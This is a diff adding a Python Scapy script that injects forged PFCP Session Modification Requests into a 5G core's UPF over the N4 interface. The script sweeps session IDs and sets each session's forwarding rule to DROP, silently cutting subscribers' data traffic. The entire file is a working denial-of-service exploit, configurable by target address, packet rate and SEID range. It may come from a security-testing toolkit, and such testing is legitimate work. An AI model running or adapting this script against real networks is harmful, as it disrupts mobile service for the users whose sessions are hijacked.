@@ -0,0 +1,53 @@
+#!/usr/bin/env python3
+"""PFCP Session Modification injection against the UPF's N4 interface.
+
+Sends PFCP Session Modification Requests for SEIDs walked across a range.
+Each request updates FAR 1 of the session to drop its traffic, cutting the
+UE's user plane without deleting the session.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP (the UPF's N4 address), PACKET_RATE, DURATION, SEID_MIN and
+SEID_MAX.
+"""
+
+import os
+import time
+
+from scapy.all import IP, UDP, send
+from scapy.contrib.pfcp import (PFCP, IE_ApplyAction, IE_FAR_Id, IE_UpdateFAR,
+                                PFCPSessionModificationRequest)
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.42.0.8")
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "100"))
+DURATION = int(os.environ.get("DURATION", "0"))
+SEID_MIN = int(os.environ.get("SEID_MIN", "1"))
+SEID_MAX = int(os.environ.get("SEID_MAX", "65535"))
+PFCP_PORT = 8805
+
+
+def drop_far():
+    return IE_UpdateFAR(IE_list=[IE_FAR_Id(id=1), IE_ApplyAction(DROP=1)])
+
+
+def main():
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    seid = SEID_MIN
+    seq = 1
+    sent = 0
+    while deadline is None or time.time() < deadline:
+        pkt = IP(dst=TARGET_IP) / UDP(sport=PFCP_PORT, dport=PFCP_PORT) / \
+            PFCP(version=1, S=1, seid=seid, seq=seq) / \
+            PFCPSessionModificationRequest(IE_list=[drop_far()])
+        send(pkt, verbose=False)
+        sent += 1
+        seq = seq % 0xFFFFFF + 1
+        seid = SEID_MIN if seid >= SEID_MAX else seid + 1
+        if sent % 1000 == 0:
+            print("sent %d session modification requests, next SEID %d" % (sent, seid), flush=True)
+        if interval:
+            time.sleep(interval)
+
+
+if __name__ == "__main__":
+    main()